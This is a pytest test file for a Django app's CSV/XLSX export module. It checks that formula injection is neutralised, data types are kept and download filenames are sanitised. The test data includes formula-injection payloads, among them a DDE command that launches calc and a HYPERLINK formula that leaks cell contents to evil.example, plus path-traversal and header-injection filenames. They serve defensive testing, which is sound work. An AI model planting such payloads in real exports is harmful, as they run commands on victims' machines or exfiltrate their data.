"""Exports: CSV and XLSX from column definitions, safe against formula injection."""

import csv
import datetime
import io
from dataclasses import dataclass
from decimal import Decimal
from urllib.parse import unquote

import pytest
from django.utils import translation
from openpyxl import load_workbook

from maillage.core.exports import (
    CSV_CONTENT_TYPE,
    MONEY_NUMBER_FORMAT,
    XLSX_CONTENT_TYPE,
    Column,
    Kind,
    content_disposition,
    csv_response,
    iter_csv,
    neutralise,
    write_xlsx,
    xlsx_response,
)
from maillage.core.money import to_decimal

D = Decimal

FORMULA_PAYLOADS = [
    "=1+1",
    "+SUM(A1)",
    "-2+3",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    " =cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "  +1",
    "\n-1",
    "=",
    "\x00=1+1",  # a control character (not allowed in XLSX) hiding the trigger
]
EVALUABLE = ("=", "+", "-", "@", "\t", "\r")

COLUMNS = [
    Column("label", "Libellé"),
    Column("amount", "Montant", kind=Kind.MONEY),
    Column("hours", "Heures", kind="hours"),
    Column("count", "Nombre", kind=Kind.NUMBER),
    Column("day", "Date", kind=Kind.DATE),
]


def make_rows():
    rows = [
        {
            "label": payload,
            "amount": D("-1234.56") if i % 2 else D("98765.43"),
            "hours": D("7.5"),
            "count": -i,
            "day": datetime.date(2024, 3, i + 1),
        }
        for i, payload in enumerate(FORMULA_PAYLOADS)
    ]
    rows.append(
        {
            "label": "Équipe « Œuvre » — café ☕ 日本",
            "amount": D("-0.01"),
            "hours": None,
            "count": D("2.5"),
            "day": None,
        }
    )
    rows.append({"label": "#N/A", "amount": None, "hours": D("0"), "count": None, "day": None})
    return rows


def read_xlsx(data: bytes):
    return load_workbook(io.BytesIO(data)).active


def xlsx_bytes(columns, rows) -> bytes:
    buffer = io.BytesIO()
    write_xlsx(buffer, columns, rows, sheet_title="Dépenses: 2024/25 [brouillon]")
    return buffer.getvalue()


def parse_csv(text: str, delimiter=";"):
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=delimiter))


# --- Neutralisation ------------------------------------------------------------------------


@pytest.mark.parametrize("payload", FORMULA_PAYLOADS)
def test_neutralise_prefixes_every_formula_payload(payload):
    result = neutralise(payload)
    assert result.startswith("'")
    assert result.lstrip("\x00") == result


@pytest.mark.parametrize("text", ["Budget 2024", "a=b", "50 %", "", "'quoted", "1-2", "Zoé"])
def test_neutralise_leaves_harmless_text_alone(text):
    assert neutralise(text) == text


# --- XLSX ----------------------------------------------------------------------------------


def test_xlsx_has_no_formula_and_no_evaluable_text():
    sheet = read_xlsx(xlsx_bytes(COLUMNS, make_rows()))
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert cells
    for cell in cells:
        assert cell.data_type != "f", cell.coordinate
        if isinstance(cell.value, str):
            assert not cell.value.startswith(EVALUABLE), (cell.coordinate, cell.value)
            assert not cell.value.lstrip().startswith(EVALUABLE), (cell.coordinate, cell.value)
    labels = [sheet.cell(row=i + 2, column=1) for i in range(len(FORMULA_PAYLOADS))]
    for cell, payload in zip(labels, FORMULA_PAYLOADS, strict=True):
        assert cell.data_type == "s"
        assert cell.value == "'" + payload.replace("\x00", "")


def test_xlsx_keeps_error_codes_as_text():
    sheet = read_xlsx(xlsx_bytes(COLUMNS, make_rows()))
    cell = sheet.cell(row=len(FORMULA_PAYLOADS) + 3, column=1)
    assert cell.value == "#N/A"
    assert cell.data_type == "s"


def test_xlsx_money_hours_numbers_and_dates_keep_their_types():
    rows = make_rows()
    sheet = read_xlsx(xlsx_bytes(COLUMNS, rows))
    for index, row in enumerate(rows, start=2):
        amount = sheet.cell(row=index, column=2)
        if row["amount"] is None:
            assert amount.value is None
        else:
            assert amount.data_type == "n"
            assert D(str(amount.value)) == row["amount"]
            assert amount.number_format == MONEY_NUMBER_FORMAT
        count = sheet.cell(row=index, column=4)
        if row["count"] is not None:
            assert count.data_type == "n"
            assert D(str(count.value)) == row["count"]
        day = sheet.cell(row=index, column=5)
        if row["day"] is not None:
            assert day.is_date
            assert day.value.date() == row["day"]
    assert sheet.cell(row=3, column=2).value == -1234.56  # a negative amount is a number
    hours = sheet.cell(row=2, column=3)
    assert (hours.data_type, hours.value, hours.number_format) == ("n", 7.5, "#,##0.00")


def test_xlsx_header_is_bold_frozen_and_columns_have_widths():
    sheet = read_xlsx(xlsx_bytes(COLUMNS, make_rows()))
    header = [cell.value for cell in sheet[1]]
    assert header == ["Libellé", "Montant", "Heures", "Nombre", "Date"]
    assert all(cell.font.bold for cell in sheet[1])
    assert not sheet.cell(row=2, column=1).font.bold
    assert sheet.freeze_panes == "A2"
    assert sheet.column_dimensions["A"].width == 24
    assert sheet.column_dimensions["B"].width == 15
    assert sheet.title == "Dépenses  2024 25  brouillon"


def test_xlsx_round_trips_non_ascii_text():
    sheet = read_xlsx(xlsx_bytes(COLUMNS, make_rows()))
    assert sheet.cell(row=len(FORMULA_PAYLOADS) + 2, column=1).value == (
        "Équipe « Œuvre » — café ☕ 日本"
    )


def test_xlsx_date_format_follows_the_language():
    rows = [{"day": datetime.date(2024, 12, 31)}]
    columns = [Column("day", "Date", kind=Kind.DATE)]
    with translation.override("fr"):
        assert read_xlsx(xlsx_bytes(columns, rows))["A2"].number_format == "dd/mm/yyyy"
    with translation.override("en"):
        assert read_xlsx(xlsx_bytes(columns, rows))["A2"].number_format == "yyyy-mm-dd"


def test_aware_datetimes_are_exported_in_local_time():
    moment = datetime.datetime(2024, 7, 1, 10, 30, tzinfo=datetime.UTC)  # 12:30 in Paris
    columns = [Column("at", "At", kind=Kind.DATE)]
    cell = read_xlsx(xlsx_bytes(columns, [{"at": moment}]))["A2"]
    assert cell.value == datetime.datetime(2024, 7, 1, 12, 30)
    assert "".join(iter_csv(columns, [{"at": moment}])).splitlines()[1] == "2024-07-01 12:30"


@dataclass
class Funder:
    name: str


@dataclass
class Line:
    funder: Funder | None
    amount: Decimal

    def double(self):
        return self.amount * 2


def test_columns_read_attributes_paths_and_callables():
    columns = [
        Column("funder.name", "Funder"),
        Column("amount", "Amount", kind=Kind.MONEY),
        Column(lambda line: line.double(), "Double", kind=Kind.MONEY),
    ]
    rows = [Line(Funder("=Région"), D("10.005")), Line(None, D("-3"))]
    lines = parse_csv("".join(iter_csv(columns, rows)).lstrip("\ufeff"))
    assert lines == [
        ["Funder", "Amount", "Double"],
        ["'=Région", "10,01", "20,01"],
        ["", "-3,00", "-6,00"],
    ]


def test_money_columns_refuse_floats():
    with pytest.raises(ValueError, match="Floating-point"):
        "".join(iter_csv([Column("x", "X", kind=Kind.MONEY)], [{"x": 0.1}]))


# --- CSV -----------------------------------------------------------------------------------


def test_csv_is_utf8_with_bom_semicolons_and_decimal_commas():
    text = "".join(iter_csv(COLUMNS, make_rows()))
    assert text.startswith("\ufeffLibellé;Montant;Heures;Nombre;Date\r\n")
    lines = parse_csv(text.removeprefix("\ufeff"))
    assert lines[0] == ["Libellé", "Montant", "Heures", "Nombre", "Date"]
    assert lines[1] == ["'=1+1", "98765,43", "7,50", "0", "2024-03-01"]
    assert lines[2] == ["'+SUM(A1)", "-1234,56", "7,50", "-1", "2024-03-02"]


def test_csv_prefixes_every_formula_payload():
    lines = parse_csv("".join(iter_csv(COLUMNS, make_rows())).removeprefix("\ufeff"))
    for line, payload in zip(lines[1:], FORMULA_PAYLOADS, strict=False):
        assert line[0] == "'" + payload.replace("\x00", "")
    for line in lines[1:]:
        assert not line[0].startswith(EVALUABLE)
        assert not line[0].lstrip().startswith(EVALUABLE)


def test_csv_writes_amounts_as_plain_numbers_including_negatives():
    rows = make_rows()
    lines = parse_csv("".join(iter_csv(COLUMNS, rows)).removeprefix("\ufeff"))
    for line, row in zip(lines[1:], rows, strict=True):
        if row["amount"] is None:
            assert line[1] == ""
        else:
            assert not line[1].startswith("'")
            assert to_decimal(line[1]) == row["amount"]
    assert lines[2][1] == "-1234,56"


def test_csv_with_commas_uses_a_decimal_point():
    text = "".join(iter_csv(COLUMNS, make_rows(), delimiter=",", bom=False))
    assert not text.startswith("\ufeff")
    lines = parse_csv(text, delimiter=",")
    assert lines[2][:4] == ["'+SUM(A1)", "-1234.56", "7.50", "-1"]
    assert lines[-2][0] == "Équipe « Œuvre » — café ☕ 日本"


def test_csv_refuses_an_ambiguous_decimal_separator():
    with pytest.raises(ValueError, match="decimal separator"):
        list(iter_csv(COLUMNS, [], delimiter=",", decimal_separator=","))
    with pytest.raises(ValueError, match="delimiter"):
        list(iter_csv(COLUMNS, [], delimiter="|"))


def test_csv_streams_in_chunks():
    rows = ({"label": f"row {i}"} for i in range(1201))
    chunks = list(iter_csv([Column("label", "Label")], rows, chunk_rows=500))
    assert len(chunks) == 1 + 3  # header, then 500 + 500 + 201 rows
    assert sum(chunk.count("\r\n") for chunk in chunks) == 1202


# --- Responses -----------------------------------------------------------------------------


def test_csv_response_headers_and_body():
    response = csv_response("Dépenses équipe 2024", COLUMNS, make_rows())
    assert response.streaming
    assert response["Content-Type"] == CSV_CONTENT_TYPE
    disposition = response["Content-Disposition"]
    assert disposition.startswith('attachment; filename="Depenses equipe 2024.csv"; ')
    assert unquote(disposition.split("filename*=UTF-8''")[1]) == "Dépenses équipe 2024.csv"
    body = b"".join(response.streaming_content)
    assert body.startswith(b"\xef\xbb\xbfLibell\xc3\xa9;")
    assert "Équipe « Œuvre » — café ☕ 日本".encode() in body


@pytest.mark.django_db  # response.close() fires request_finished, which checks DB connections
def test_xlsx_response_headers_and_body():
    response = xlsx_response("budget.xlsx", COLUMNS, make_rows())
    assert response["Content-Type"] == XLSX_CONTENT_TYPE
    assert response["Content-Disposition"] == 'attachment; filename="budget.xlsx"'
    body = b"".join(response.streaming_content)
    response.close()  # as Django's handler does: closes the temporary file
    assert int(response["Content-Length"]) == len(body)
    sheet = read_xlsx(body)
    assert sheet.title == "budget"
    assert sheet["A2"].value == "'=1+1"


@pytest.mark.parametrize(
    ("filename", "expected"),
    [
        ("budget.csv", 'attachment; filename="budget.csv"'),
        ("../../etc/passwd", 'attachment; filename="etc_passwd"'),
        (
            'a"b\r\nContent-Type: text/html.csv',
            'attachment; filename="a_b_Content-Type_ text_html.csv"',
        ),
        (
            "C:\\Users\\x\\é;.csv",
            "attachment; filename=\"C_Users_x_e.csv\"; filename*=UTF-8''C_Users_x_%C3%A9%3B.csv",
        ),
        (
            "预算.xlsx",
            "attachment; filename=\"export.xlsx\"; filename*=UTF-8''%E9%A2%84%E7%AE%97.xlsx",
        ),
        ("", 'attachment; filename="export"'),
    ],
)
def test_content_disposition_is_safe(filename, expected):
    assert content_disposition(filename) == expected
